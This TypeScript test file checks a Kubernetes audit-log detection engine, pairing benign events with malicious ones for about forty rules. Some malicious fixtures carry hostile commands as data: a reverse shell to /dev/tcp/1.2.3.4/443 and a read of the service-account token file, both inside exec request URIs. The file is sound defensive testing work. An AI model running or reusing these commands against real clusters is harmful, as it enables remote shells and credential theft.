// Every rule: events that must alert (invalid) and look-alikes that must not (valid), side by side.
import { describe, expect, it } from 'vitest';
import { DetectionEngine } from '../../src/detect/engine.js';
import type { AuditEvent } from '../../src/detect/event.js';
import type { DetectionRule } from '../../src/detect/rule.js';
import { ALL_RULES, RULES } from '../../src/detect/rules/index.js';
import { at, ev } from './support.js';

interface Cases {
  readonly valid: readonly AuditEvent[];
  readonly invalid: readonly { readonly events: readonly AuditEvent[]; readonly messageId: string; readonly message?: string }[];
}

const sa = { username: 'system:serviceaccount:default:app', groups: ['system:serviceaccounts', 'system:authenticated'] };
const node = { username: 'system:node:n1', groups: ['system:nodes', 'system:authenticated'] };
const anon = { username: 'system:anonymous', groups: ['system:unauthenticated'] };
const forbid = { 'authorization.k8s.io/decision': 'forbid', 'authorization.k8s.io/reason': '' };
const obj = (resource: string, namespace = 'default', name = 'x', apiGroup = '', subresource?: string) => ({ objectRef: { resource, namespace, name, apiGroup, ...(subresource === undefined ? {} : { subresource }) } });
const pod = (spec: Record<string, unknown>) => ({ kind: 'Pod', apiVersion: 'v1', metadata: { name: 'p' }, spec: { containers: [{ name: 'c', image: 'x' }], ...spec } });
const rep = <T,>(n: number, f: (i: number) => T): T[] => Array.from({ length: n }, (_, i) => f(i));
const failedLogin = (i: number, ip = '203.0.113.9', ua = 'curl/8.5') =>
  ev({ stage: 'ResponseStarted', user: {}, sourceIPs: ['10.0.0.1', ip], userAgent: ua, responseStatus: { code: 401, message: 'Unauthorized' }, annotations: {}, stageTimestamp: at(i), auditID: `f-${i}-${ip}` });

const CASES: Record<keyof typeof RULES, Cases> = {
  'brute-force-authentication': {
    valid: [...rep(9, (i) => failedLogin(i)), ...rep(5, (i) => failedLogin(i, '198.51.100.1'))],
    invalid: [{ events: rep(10, (i) => failedLogin(i)), messageId: 'burst', message: '10 failed logins (401) from 203.0.113.9 (curl/8.5) within 60s, last on pods default' }],
  },
  'anonymous-access-allowed': {
    valid: [ev({ user: anon, requestURI: '/healthz', objectRef: undefined }), ev({ user: anon, annotations: forbid, responseStatus: { code: 403 } })],
    invalid: [{ events: [ev({ user: anon, requestURI: '/api/v1/secrets', ...obj('secrets', '') })], messageId: 'allowed' }],
  },
  'anonymous-probing': {
    valid: rep(5, (i) => ev({ user: anon, annotations: forbid, responseStatus: { code: 403 }, requestURI: `/api/v1/x${i}`, stageTimestamp: at(i) })),
    invalid: [{ events: rep(6, (i) => ev({ user: anon, annotations: forbid, responseStatus: { code: 403 }, requestURI: `/api/v1/x${i}`, stageTimestamp: at(i) })), messageId: 'sweep' }],
  },
  'anonymous-workload-write': {
    valid: [ev({ user: anon, verb: 'create', responseStatus: { code: 403 }, annotations: forbid })],
    invalid: [{ events: [ev({ user: anon, verb: 'create', responseStatus: { code: 201 } })], messageId: 'write' }],
  },
  'rbac-probing': {
    valid: rep(4, (i) => ev({ annotations: forbid, responseStatus: { code: 403 }, requestURI: `/api/v1/r${i}`, stageTimestamp: at(i) })),
    invalid: [{ events: rep(5, (i) => ev({ annotations: forbid, responseStatus: { code: 403 }, requestURI: `/api/v1/r${i}`, stageTimestamp: at(i) })), messageId: 'burst' }],
  },
  'self-permission-review': {
    valid: [ev({ verb: 'create', ...obj('selfsubjectaccessreviews', '', '', 'authorization.k8s.io') })],
    invalid: [{ events: [ev({ user: sa, verb: 'create', ...obj('selfsubjectrulesreviews', '', '', 'authorization.k8s.io'), responseStatus: { code: 201 } })], messageId: 'review' }],
  },
  'discovery-sweep': {
    valid: rep(5, (i) => ev({ ...obj(['pods', 'secrets', 'nodes', 'roles', 'configmaps'][i] ?? 'pods'), stageTimestamp: at(i) })),
    invalid: [{ events: rep(6, (i) => ev({ ...obj(['pods', 'secrets', 'nodes', 'roles', 'configmaps', 'serviceaccounts'][i] ?? 'pods'), stageTimestamp: at(i) })), messageId: 'sweep' }],
  },
  'secret-listing': {
    valid: [ev({ ...obj('secrets', 'team-a', '') }), ev({ user: node, ...obj('secrets', '', '') })],
    invalid: [{ events: [ev({ ...obj('secrets', '', '') })], messageId: 'list', message: 'jane list secrets in all namespaces from 10.0.0.7 (kubectl/v1.33.0 (linux/amd64) kubernetes/abc)' }],
  },
  'secret-harvesting': {
    valid: rep(5, (i) => ev({ verb: 'get', ...obj('secrets', 'default', 'same'), stageTimestamp: at(i) })),
    invalid: [{ events: rep(5, (i) => ev({ verb: 'get', ...obj('secrets', 'default', `s${i}`), stageTimestamp: at(i * 30) })), messageId: 'harvest' }],
  },
  'secret-read-scripted-client': {
    valid: [ev({ verb: 'get', ...obj('secrets') })],
    invalid: [{ events: [ev({ verb: 'get', ...obj('secrets'), userAgent: 'python-requests/2.31' })], messageId: 'read' }],
  },
  'secret-modified': {
    valid: [ev({ verb: 'update', ...obj('secrets', 'default') }), ev({ user: { username: 'system:kube-controller-manager', groups: [] }, verb: 'update', ...obj('secrets', 'kube-system') })],
    invalid: [{ events: [ev({ verb: 'patch', ...obj('secrets', 'kube-system', 'bootstrap-token-abc') })], messageId: 'write' }],
  },
  'configmap-credentials': {
    valid: [ev({ level: 'Request', verb: 'create', ...obj('configmaps'), requestObject: { data: { 'app.conf': 'port=8080' } } })],
    invalid: [{ events: [ev({ level: 'Request', verb: 'create', ...obj('configmaps'), requestObject: { data: { AWS_SECRET_ACCESS_KEY: 'abc' } } })], messageId: 'credential' }],
  },
  'token-request': {
    valid: [ev({ user: node, verb: 'create', ...obj('serviceaccounts', 'default', 'app', '', 'token') })],
    invalid: [{ events: [ev({ verb: 'create', ...obj('serviceaccounts', 'kube-system', 'clusterrole-aggregation-controller', '', 'token'), responseStatus: { code: 201 } })], messageId: 'token' }],
  },
  'legacy-token-use': {
    valid: [ev({})],
    invalid: [{ events: [ev({ user: sa, annotations: { 'authentication.k8s.io/legacy-token': 'system:serviceaccount:default:app' } })], messageId: 'legacy' }],
  },
  'pod-exec': {
    valid: [ev({ verb: 'create', ...obj('pods', 'default', 'web', '', 'exec'), responseStatus: { code: 101 } }), ev({ verb: 'get', ...obj('pods', 'default', 'web', '', 'log') })],
    invalid: [
      { events: [ev({ stage: 'ResponseStarted', verb: 'get', ...obj('pods', 'default', 'web', '', 'exec'), requestURI: '/api/v1/namespaces/default/pods/web/exec?command=sh&command=-c&command=id&stdin=true', responseStatus: { code: 101 } })], messageId: 'exec', message: 'jane exec into default/web "sh -c id": session opened' },
      { events: [ev({ verb: 'create', ...obj('pods', 'default', 'web', '', 'exec'), responseStatus: { code: 403 }, annotations: forbid })], messageId: 'exec', message: 'jane exec into default/web: denied (403)' },
    ],
  },
  'pod-attach': {
    valid: [ev({ verb: 'create', ...obj('pods', 'default', 'web', '', 'exec'), responseStatus: { code: 101 }, stage: 'ResponseStarted' })],
    invalid: [{ events: [ev({ stage: 'ResponseStarted', verb: 'create', ...obj('pods', 'default', 'web', '', 'attach'), responseStatus: { code: 101 } })], messageId: 'attach' }],
  },
  'suspicious-exec-command': {
    valid: [ev({ stage: 'ResponseStarted', verb: 'get', ...obj('pods', 'default', 'web', '', 'exec'), requestURI: '/api/v1/namespaces/default/pods/web/exec?command=ls&command=-la', responseStatus: { code: 101 } })],
    invalid: [
      { events: [ev({ stage: 'ResponseStarted', verb: 'get', ...obj('pods', 'default', 'web', '', 'exec'), requestURI: '/api/v1/namespaces/default/pods/web/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken', responseStatus: { code: 101 } })], messageId: 'command', message: 'jane ran "cat /var/run/secrets/kubernetes.io/serviceaccount/token" in default/web: credential file' },
      { events: [ev({ stage: 'ResponseStarted', verb: 'create', ...obj('pods', 'default', 'web', '', 'exec'), requestURI: '/api/v1/namespaces/default/pods/web/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F1.2.3.4%2F443+0%3E%261', responseStatus: { code: 101 } })], messageId: 'command' },
    ],
  },
  'port-forward-or-proxy': {
    valid: [ev({ user: { username: 'system:kube-controller-manager', groups: [] }, ...obj('services', 'default', 'web', '', 'proxy') })],
    invalid: [{ events: [ev({ stage: 'ResponseStarted', verb: 'create', ...obj('pods', 'default', 'db', '', 'portforward'), responseStatus: { code: 101 } })], messageId: 'tunnel' }],
  },
  'ephemeral-container': {
    valid: [ev({ verb: 'patch', ...obj('pods', 'default', 'web', '', 'ephemeralcontainers'), responseStatus: { code: 403 } })],
    invalid: [{ events: [ev({ verb: 'patch', ...obj('pods', 'default', 'web', '', 'ephemeralcontainers') })], messageId: 'debug' }],
  },
  'kubelet-proxy': {
    valid: [ev({ verb: 'get', ...obj('nodes', '', 'n1', '', 'proxy'), requestURI: '/api/v1/nodes/n1/proxy/metrics' })],
    invalid: [{ events: [ev({ verb: 'create', ...obj('nodes', '', 'n1', '', 'proxy'), requestURI: '/api/v1/nodes/n1/proxy/run/default/web/c?cmd=id' })], messageId: 'proxy' }],
  },
  'privileged-pod': {
    valid: [ev({ level: 'Request', verb: 'create', ...obj('pods'), requestObject: pod({}) })],
    invalid: [{ events: [ev({ level: 'Request', verb: 'create', ...obj('deployments', 'default', 'd', 'apps'), requestObject: { kind: 'Deployment', spec: { template: { spec: { containers: [{ name: 'c', securityContext: { privileged: true } }] } } } } })], messageId: 'privileged' }],
  },
  'host-namespace-pod': {
    valid: [ev({ level: 'Request', verb: 'create', ...obj('pods'), requestObject: pod({ hostNetwork: false }) })],
    invalid: [{ events: [ev({ level: 'Request', verb: 'create', ...obj('pods'), requestObject: pod({ hostPID: true, hostNetwork: true }) })], messageId: 'host', message: 'jane create pods default/x with hostNetwork, hostPID' }],
  },
  'sensitive-hostpath-pod': {
    valid: [ev({ level: 'Request', verb: 'create', ...obj('pods'), requestObject: pod({ volumes: [{ name: 'v', hostPath: { path: '/var/log/app' } }] }) })],
    invalid: [{ events: [ev({ level: 'Request', verb: 'create', ...obj('pods'), requestObject: pod({ volumes: [{ name: 'v', hostPath: { path: '/' } }] }) })], messageId: 'hostPath' }],
  },
  'dangerous-capabilities': {
    valid: [ev({ level: 'Request', verb: 'create', ...obj('pods'), requestObject: pod({ containers: [{ name: 'c', securityContext: { capabilities: { add: ['NET_BIND_SERVICE'] } } }] }) })],
    invalid: [{ events: [ev({ level: 'Request', verb: 'create', ...obj('pods'), requestObject: pod({ containers: [{ name: 'c', securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }] }) })], messageId: 'caps' }],
  },
  'pod-in-system-namespace': {
    valid: [ev({ user: { username: 'system:serviceaccount:kube-system:daemon-set-controller', groups: [] }, verb: 'create', ...obj('pods', 'kube-system'), responseStatus: { code: 201 } })],
    invalid: [{ events: [ev({ verb: 'create', ...obj('pods', 'kube-system', 'kube-proxy-x'), responseStatus: { code: 201 } })], messageId: 'pod' }],
  },
  'serviceaccount-in-system-namespace': {
    valid: [ev({ verb: 'create', ...obj('serviceaccounts', 'team-a'), responseStatus: { code: 201 } })],
    invalid: [{ events: [ev({ verb: 'create', ...obj('serviceaccounts', 'kube-system', 'clusterrole-aggregator'), responseStatus: { code: 201 } })], messageId: 'sa' }],
  },
  'cluster-admin-binding': {
    valid: [ev({ level: 'RequestResponse', verb: 'create', ...obj('clusterrolebindings', '', 'view-b', 'rbac.authorization.k8s.io'), requestObject: { roleRef: { name: 'view' } }, responseStatus: { code: 201 } })],
    invalid: [{ events: [ev({ level: 'RequestResponse', verb: 'create', ...obj('clusterrolebindings', '', 'pwn', 'rbac.authorization.k8s.io'), requestObject: { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'app' }] }, responseStatus: { code: 201 } })], messageId: 'binding', message: 'jane create clusterrolebindings pwn binding cluster-admin to ServiceAccount:app' }],
  },
  'dangerous-role': {
    valid: [ev({ level: 'Request', verb: 'create', ...obj('roles', 'default', 'r', 'rbac.authorization.k8s.io'), requestObject: { rules: [{ verbs: ['get'], resources: ['pods'] }] } })],
    invalid: [{ events: [ev({ level: 'Request', verb: 'create', ...obj('clusterroles', '', 'r', 'rbac.authorization.k8s.io'), requestObject: { rules: [{ verbs: ['create'], resources: ['pods/exec'] }] } })], messageId: 'role' }],
  },
  'system-rbac-tampering': {
    valid: [ev({ verb: 'update', ...obj('clusterroles', '', 'my-role', 'rbac.authorization.k8s.io') })],
    invalid: [{ events: [ev({ verb: 'patch', ...obj('clusterroles', '', 'system:node', 'rbac.authorization.k8s.io') })], messageId: 'tamper' }],
  },
  'rbac-written-by-serviceaccount': {
    valid: [ev({ user: { username: 'system:serviceaccount:kube-system:clusterrole-aggregation-controller', groups: [] }, verb: 'update', ...obj('clusterroles', '', 'admin', 'rbac.authorization.k8s.io') })],
    invalid: [{ events: [ev({ user: sa, verb: 'create', ...obj('rolebindings', 'default', 'b', 'rbac.authorization.k8s.io'), responseStatus: { code: 201 } })], messageId: 'rbac' }],
  },
  'privileged-impersonation': {
    valid: [ev({ impersonatedUser: { username: 'bob', groups: ['dev'] } })],
    invalid: [{ events: [ev({ impersonatedUser: { username: 'bob', groups: ['system:masters'] } })], messageId: 'impersonation' }],
  },
  'impersonation-denied': {
    valid: rep(2, (i) => ev({ responseStatus: { code: 403, message: 'users "admin" is forbidden: User "jane" cannot impersonate resource "users" in API group "" at the cluster scope' }, annotations: {}, stageTimestamp: at(i) })),
    invalid: [{ events: rep(3, (i) => ev({ responseStatus: { code: 403, message: 'users "admin" is forbidden: User "jane" cannot impersonate resource "users" in API group "" at the cluster scope' }, annotations: {}, stageTimestamp: at(i) })), messageId: 'denied' }],
  },
  'csr-created-or-approved': {
    valid: [ev({ user: node, verb: 'create', ...obj('certificatesigningrequests', '', 'node-csr-1', 'certificates.k8s.io'), responseStatus: { code: 201 } })],
    invalid: [{ events: [ev({ verb: 'update', ...obj('certificatesigningrequests', '', 'kcm', 'certificates.k8s.io', 'approval') })], messageId: 'csr', message: 'jane approved CSR kcm from 10.0.0.7' }],
  },
  'admission-webhook-change': {
    valid: [ev({ verb: 'get', ...obj('validatingwebhookconfigurations', '', 'w', 'admissionregistration.k8s.io') })],
    invalid: [{ events: [ev({ verb: 'delete', ...obj('validatingwebhookconfigurations', '', 'gatekeeper', 'admissionregistration.k8s.io') })], messageId: 'webhook' }],
  },
  'events-deleted': {
    valid: [ev({ user: { username: 'system:kube-controller-manager', groups: [] }, verb: 'delete', ...obj('events') })],
    invalid: [{ events: [ev({ verb: 'deletecollection', ...obj('events', 'default', '', 'events.k8s.io') })], messageId: 'deleted' }],
  },
  'rbac-object-deleted': {
    valid: [ev({ verb: 'delete', ...obj('roles', 'default', 'r', 'rbac.authorization.k8s.io'), responseStatus: { code: 404 } })],
    invalid: [{ events: [ev({ verb: 'delete', ...obj('clusterrolebindings', '', 'ops', 'rbac.authorization.k8s.io') })], messageId: 'deleted' }],
  },
  'kube-system-change': {
    valid: [ev({ verb: 'update', ...obj('configmaps', 'default') }), ev({ user: { username: 'system:kube-scheduler', groups: [] }, verb: 'update', ...obj('leases', 'kube-system', 'kube-scheduler', 'coordination.k8s.io') })],
    invalid: [{ events: [ev({ verb: 'patch', ...obj('daemonsets', 'kube-system', 'kube-proxy', 'apps') })], messageId: 'change' }],
  },
  'exposed-service': {
    valid: [ev({ level: 'Request', verb: 'create', ...obj('services'), requestObject: { spec: { type: 'ClusterIP' } } })],
    invalid: [{ events: [ev({ level: 'Request', verb: 'create', ...obj('services'), requestObject: { spec: { type: 'NodePort' } } })], messageId: 'exposed' }],
  },
  'dns-tampering': {
    valid: [ev({ verb: 'get', ...obj('configmaps', 'kube-system', 'coredns') })],
    invalid: [{ events: [ev({ verb: 'patch', ...obj('configmaps', 'kube-system', 'coredns') })], messageId: 'dns' }],
  },
  'destructive-deletion': {
    valid: [ev({ verb: 'delete', ...obj('pods') })],
    invalid: [{ events: [ev({ verb: 'delete', ...obj('namespaces', '', 'prod') })], messageId: 'deleted' }],
  },
  'scheduled-or-node-workload': {
    valid: [ev({ verb: 'create', ...obj('deployments', 'default', 'd', 'apps') })],
    invalid: [{ events: [ev({ verb: 'create', ...obj('cronjobs', 'default', 'miner', 'batch'), responseStatus: { code: 201 } })], messageId: 'workload' }],
  },
  'serviceaccount-forbidden': {
    valid: [ev({ user: sa }), ev({ annotations: forbid, responseStatus: { code: 403 } })],
    invalid: [{ events: [ev({ user: sa, annotations: forbid, responseStatus: { code: 403 }, verb: 'list', ...obj('secrets', 'kube-system', '') })], messageId: 'forbidden', message: 'system:serviceaccount:default:app was denied list secrets in kube-system from 10.0.0.7 (kubectl/v1.33.0 (linux/amd64) kubernetes/abc)' }],
  },
};

function run(rule: DetectionRule, events: readonly AuditEvent[]) {
  const engine = new DetectionEngine({ rules: [rule], clock: () => 0 });
  return events.flatMap((e) => engine.process(e));
}

describe('detection catalogue', () => {
  it('has at least 30 rules with unique ids and names matching their files, complete metadata', () => {
    expect(ALL_RULES.length).toBeGreaterThanOrEqual(30);
    expect(new Set(ALL_RULES.map((r) => r.meta.id)).size).toBe(ALL_RULES.length);
    for (const [name, rule] of Object.entries(RULES)) {
      expect(rule.meta.name).toBe(name);
      expect(rule.meta.attack.length).toBeGreaterThan(0);
      for (const t of rule.meta.attack) expect(t).toMatch(/^T\d{4}(\.\d{3})?$/);
      expect(rule.meta.stages.length).toBeGreaterThan(0);
      expect(rule.meta.description.length).toBeGreaterThan(20);
    }
  });
  for (const [name, rule] of Object.entries(RULES) as [keyof typeof RULES, DetectionRule][]) {
    describe(name, () => {
      const cases = CASES[name];
      it('valid: no alert', () => {
        expect(run(rule, cases.valid)).toEqual([]);
      });
      it.each(cases.invalid.map((c, i) => [i, c] as const))('invalid %i: alerts', (_i, c) => {
        const alerts = run(rule, c.events);
        expect(alerts).toHaveLength(1);
        expect(alerts[0]?.messageId).toBe(c.messageId);
        if (c.message !== undefined) expect(alerts[0]?.message).toBe(c.message);
        expect(alerts[0]?.evidence.auditIDs.length).toBeGreaterThan(0);
        expect(Object.keys(rule.meta.messages)).toContain(c.messageId);
      });
    });
  }
});
